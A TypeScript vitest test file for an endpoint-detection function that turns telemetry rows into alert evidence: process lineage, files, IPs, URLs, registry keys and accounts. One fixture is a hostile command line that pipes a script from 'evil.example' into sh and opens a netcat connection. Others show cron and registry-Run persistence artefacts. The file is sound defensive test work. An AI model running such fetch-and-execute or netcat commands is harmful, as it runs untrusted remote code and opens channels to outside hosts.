import { AlertEvidence } from '@merlon/contract';
import { Check } from 'typebox/value';
import { describe, expect, it } from 'vitest';
import { evidenceOf } from './evidence.ts';
import { Lineage } from './lineage.ts';
import { initiatingProcess, type Row, subjectProcess } from './row-processes.ts';

const T = (second: number) => `2026-11-24T10:00:${String(second).padStart(2, '0')}.0000000Z`;

function started(pid: number, parent: number, grandparent: number, command: string, more: Row = {}): Row {
  return {
    Timestamp: T(pid),
    ActionType: 'ProcessCreated',
    ProcessId: pid,
    ProcessCreationTime: T(pid),
    FileName: `p${pid}`,
    FolderPath: `/usr/bin/p${pid}`,
    ProcessCommandLine: command,
    AccountName: 'alice',
    AccountDomain: 'host',
    SHA1: 'a'.repeat(40),
    InitiatingProcessId: parent,
    InitiatingProcessCreationTime: T(parent),
    InitiatingProcessFileName: `p${parent}`,
    InitiatingProcessFolderPath: `/usr/bin/p${parent}`,
    InitiatingProcessCommandLine: `p${parent} from the child`,
    InitiatingProcessParentId: grandparent,
    InitiatingProcessParentCreationTime: T(grandparent),
    InitiatingProcessParentFileName: `p${grandparent}`,
    ReportId: pid,
    ...more,
  };
}

function lineageOf(...rows: Row[]): Lineage {
  const lineage = new Lineage();
  for (const row of rows) {
    const process = subjectProcess(row);
    if (process) lineage.add('d', process, initiatingProcess(row));
  }
  return lineage;
}

const ofType = (found: readonly AlertEvidence[], type: string) => found.filter((e) => e.entityType === type);

describe('evidenceOf', () => {
  it('tells the tree of a process, farther than the row does', () => {
    const rows = [started(3, 2, 1, 'p3 --run'), started(4, 3, 2, 'p4 --run'), started(5, 4, 3, 'p5 --run')];
    const { evidence } = evidenceOf('DeviceProcessEvents', rows[2] as Row, 'd', lineageOf(...rows));
    const tree = ofType(evidence, 'Process');
    expect(
      tree.map((e) => [e.processId, e.parentProcessId, e.processCommandLine, e.detectionStatus]),
    ).toEqual([
      [5, 4, 'p5 --run', 'Detected'],
      [4, 3, 'p4 --run', null],
      [3, 2, 'p3 --run', null],
      [2, 1, 'p2 from the child', null],
      [1, null, null, null],
    ]);
    expect(tree[0]).toMatchObject({
      fileName: 'p5',
      filePath: '/usr/bin',
      processCreationTime: T(5),
      parentProcessCreationTime: T(4),
      parentProcessFileName: 'p4',
      parentProcessFilePath: '/usr/bin',
      accountName: 'alice',
    });
  });

  it('falls back on the row where nothing is remembered', () => {
    const { evidence, relatedUser } = evidenceOf(
      'DeviceProcessEvents',
      started(5, 4, 3, 'p5'),
      'd',
      new Lineage(),
    );
    expect(ofType(evidence, 'Process').map((e) => [e.processId, e.processCommandLine])).toEqual([
      [5, 'p5'],
      [4, 'p4 from the child'],
      [3, null],
    ]);
    expect(relatedUser).toEqual({ userName: 'alice', domainName: 'host' });
    expect(ofType(evidence, 'File')).toMatchObject([
      { fileName: 'p5', filePath: '/usr/bin', sha1: 'a'.repeat(40) },
    ]);
    expect(ofType(evidence, 'User')).toMatchObject([
      { accountName: 'alice', domainName: 'host', detectionStatus: null },
    ]);
  });

  it('puts the acting process at the centre of what is no process start', () => {
    const lineage = lineageOf(started(4, 3, 2, 'p4 --run'));
    const row: Row = {
      ...started(9, 4, 3, ''),
      ProcessId: undefined,
      ActionType: 'FileCreated',
      FileName: 'sync',
      FolderPath: '/etc/cron.d/sync',
      AccountName: undefined,
      InitiatingProcessAccountName: 'root',
    };
    const { evidence, relatedUser } = evidenceOf('DeviceFileEvents', row, 'd', lineage);
    expect(
      ofType(evidence, 'Process').map((e) => [e.processId, e.processCommandLine, e.detectionStatus]),
    ).toEqual([
      [4, 'p4 --run', 'Detected'],
      [3, 'p3 from the child', null],
      [2, null, null],
    ]);
    expect(ofType(evidence, 'File')).toMatchObject([
      { fileName: 'sync', filePath: '/etc/cron.d', detectionStatus: 'Detected' },
    ]);
    expect(relatedUser?.userName).toBe('alice');
  });

  it('names addresses of connections and of command lines', () => {
    const connection: Row = {
      Timestamp: T(1),
      RemoteIP: '203.0.113.7',
      RemotePort: 443,
      RemoteUrl: 'evil.example',
      InitiatingProcessId: 4,
    };
    const network = evidenceOf('DeviceNetworkEvents', connection, 'd', new Lineage()).evidence;
    expect(ofType(network, 'Ip').map((e) => e.ipAddress)).toEqual(['203.0.113.7']);
    expect(ofType(network, 'Url').map((e) => e.url)).toEqual(['evil.example']);
    const line =
      'bash -c "curl -s https://evil.example/x.sh | sh; nc 198.51.100.2 44; echo 1.2.3.4.5 300.1.1.1"';
    const process = evidenceOf('DeviceProcessEvents', started(5, 4, 3, line), 'd', new Lineage()).evidence;
    expect(ofType(process, 'Ip').map((e) => e.ipAddress)).toEqual(['198.51.100.2']);
    expect(ofType(process, 'Url').map((e) => e.url)).toEqual(['https://evil.example/x.sh']);
  });

  it('parts registry keys from their hive, and Windows paths from their names', () => {
    const row: Row = {
      Timestamp: T(1),
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Run',
      RegistryValueName: 'x',
      RegistryValueData: 'C:\\x.exe',
      RegistryValueType: 'String',
      InitiatingProcessId: 4,
      InitiatingProcessFolderPath: 'c:\\windows\\REG.exe',
      InitiatingProcessFileName: 'reg.exe',
    };
    const { evidence } = evidenceOf('DeviceRegistryEvents', row, 'd', new Lineage());
    expect(ofType(evidence, 'Registry')).toMatchObject([
      {
        registryHive: 'HKEY_LOCAL_MACHINE',
        registryKey: 'SOFTWARE\\Run',
        registryValueName: 'x',
        registryValue: 'C:\\x.exe',
        registryValueType: 'String',
      },
    ]);
    expect(ofType(evidence, 'Process')).toMatchObject([{ filePath: 'c:\\windows', fileName: 'reg.exe' }]);
  });

  it('names the account a sign-in is about', () => {
    const row: Row = {
      Timestamp: T(1),
      ActionType: 'LogonFailed',
      AccountName: 'bob',
      AccountDomain: 'corp',
      AccountSid: 'S-1',
      RemoteIP: '10.0.0.9',
      InitiatingProcessAccountName: 'system',
    };
    const { evidence, relatedUser } = evidenceOf('DeviceLogonEvents', row, 'd', new Lineage());
    expect(relatedUser).toEqual({ userName: 'bob', domainName: 'corp' });
    expect(evidence.map((e) => e.entityType)).toEqual(['Ip', 'User']);
  });

  it('has every key of the contract', () => {
    const { evidence } = evidenceOf(
      'DeviceProcessEvents',
      started(5, 4, 3, 'curl http://a.example'),
      'd',
      new Lineage(),
    );
    for (const entity of evidence) expect(Check(AlertEvidence, entity)).toBe(true);
  });
});
